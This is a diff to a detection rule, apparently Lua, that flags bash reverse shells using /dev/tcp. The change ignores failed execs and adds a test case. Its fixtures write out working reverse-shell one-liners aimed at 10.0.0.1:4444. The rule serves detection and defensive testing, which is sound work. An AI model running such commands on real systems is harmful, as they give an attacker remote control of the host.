@@ -13,6 +13,7 @@ rule {
   severity = "critical",
   tags = { "mitre:T1059.004", "mitre:TA0011" },
   when = function(e)
+    if e.ret ~= 0 then return false end -- a failed exec ran nothing (a PATH search)
     local c = e.cmdline -- argv joined by spaces
     return contains(c, "/dev/tcp/") or contains(c, "/dev/udp/")
   end,
@@ -24,6 +25,9 @@ rule {
       output = "reverse shell idiom run by bash (pid 1000, uid 0): "
             .. "bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1" },
     { event = { type = "process.exec", comm = "ls", filename = "/bin/ls", argv = { "ls", "/dev" } },
+      expect = false },
+    { event = { type = "process.exec", comm = "python3", filename = "/usr/local/bin/bash",
+                argv = { "bash", "-c", "exec 3<>/dev/tcp/10.0.0.1/4444" }, ret = -2 },
       expect = false },
   },
 }
